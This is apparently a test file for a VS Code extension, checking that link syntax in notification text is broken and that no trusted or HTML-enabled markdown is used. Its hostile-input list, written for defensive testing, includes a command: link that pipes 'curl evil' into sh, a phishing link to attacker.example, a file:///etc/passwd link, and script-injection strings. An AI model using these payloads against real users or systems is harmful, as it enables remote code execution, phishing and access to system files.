// Hostile text in notifications and the tree: link syntax is broken before a notification shows untrusted text,
// and nothing the host shows is trusted markdown or HTML.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { inertNotificationText } from '../../src/host/inertText';

/**
 * The markdown-style link VS Code's notifications turn into an anchor (its targets include `command:` URIs, run on
 * click). Deliberately broader than VS Code's own pattern: any `[label](target)`.
 */
const notificationLink = /\[[^\]]+\]\([^)\s]+[^)]*\)/;

const hostile = [
  '[Reload](command:workbench.action.reloadWindow)',
  'Click [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[Sign in again](https://attacker.example/phish "Microsoft")',
  '[a](file:///etc/passwd) and [b](http://x.example)',
  '[nested [x]](command:x)',
  '[multi\nline](command:x)',
  '<img src=x onerror=alert(1)> [x](command:y)',
  '**bold** `code` $(alert) <script>alert(1)</script>',
];

describe('inertNotificationText (src/host/inertText.ts)', () => {
  it('leaves no markdown link in hostile subjects and Graph error messages', () => {
    for (const text of hostile) {
      const out = inertNotificationText(text);
      // VS Code folds line breaks into spaces before it looks for links.
      assert.doesNotMatch(out.replace(/\r\n|\n|\r/g, ' '), notificationLink, text);
      assert.ok(!out.includes(']('), text);
    }
  });

  it('breaks links inside a composed, translated message', () => {
    const organizer = '[Open settings](command:workbench.action.openSettings)';
    const message = `Only the organizer (${organizer}) can change or cancel this meeting. Nothing was sent.`;
    assert.equal(
      inertNotificationText(message),
      'Only the organizer ([Open settings] (command:workbench.action.openSettings)) can change or cancel this meeting. Nothing was sent.',
    );
  });

  it('keeps every other character, so ordinary text reads the same (fast-check)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const out = inertNotificationText(s);
        assert.ok(!out.includes(']('));
        assert.equal(out.replace(/\] \(/g, ']('), s.replace(/\] \(/g, ']('));
        if (!s.includes('](')) assert.equal(out, s);
      }),
      { numRuns: 1000 },
    );
    fc.assert(
      fc.property(fc.string(), fc.webUrl(), fc.string(), (label, url, rest) => {
        fc.pre(!label.includes(']') && label.length > 0);
        for (const target of [url, `command:${rest.replace(/[\s)]/g, '')}x`]) {
          const out = inertNotificationText(`x [${label}](${target}) y`);
          assert.doesNotMatch(out.replace(/\r\n|\n|\r/g, ' '), notificationLink);
        }
      }),
      { numRuns: 200 },
    );
  });
});

/** The host's sources (src/host and src/extension.ts), as text. */
function hostSources(): { file: string; text: string }[] {
  const root = path.resolve(__dirname, '../../src');
  const files: string[] = [path.join(root, 'extension.ts')];
  const walk = (dir: string): void => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name.endsWith('.ts')) files.push(p);
    }
  };
  walk(path.join(root, 'host'));
  return files.map((f) => ({ file: path.relative(root, f), text: fs.readFileSync(f, 'utf8') }));
}

describe('host sources: untrusted text is never shown as markup', () => {
  it('uses no trusted or HTML-enabled MarkdownString (tree tooltips are plain strings)', () => {
    const sources = hostSources();
    assert.ok(sources.some((s) => s.file === path.join('host', 'tree.ts')));
    for (const { file, text } of sources) {
      assert.doesNotMatch(text, /isTrusted\s*[:=]\s*(true|\{)/, `${file} trusts markdown`);
      assert.doesNotMatch(text, /supportHtml\s*[:=]\s*true/, `${file} enables HTML in markdown`);
      assert.doesNotMatch(text, /supportThemeIcons\s*[:=]\s*true/, `${file} enables icons in markdown`);
      // A MarkdownString anywhere must go through an escape; today the host has none at all.
      assert.doesNotMatch(text, /new\s+vscode\.MarkdownString\(/, `${file}: use a plain string`);
    }
    const tree = sources.find((s) => s.file === path.join('host', 'tree.ts'))!.text;
    assert.match(tree, /item\.tooltip = lines\.filter\(.*\)\.join\('\\n'\);/);
  });

  it('routes every notification that interpolates text through inertNotificationText', () => {
    const unwrapped =
      /show(?:Information|Warning|Error)Message\(\s*vscode\.l10n\.t\(\s*(['"`])(?:(?!\1).)*\{\d\}/s;
    const offenders = hostSources()
      .filter(({ text }) => unwrapped.test(text))
      .map((s) => s.file);
    assert.deepEqual(offenders, []);
    const errors = hostSources().find((s) => s.file === path.join('host', 'errors.ts'))!.text;
    assert.match(errors, /showErrorMessage\(\s*inertNotificationText\(redactSecrets\(message\)\)/);
  });
});
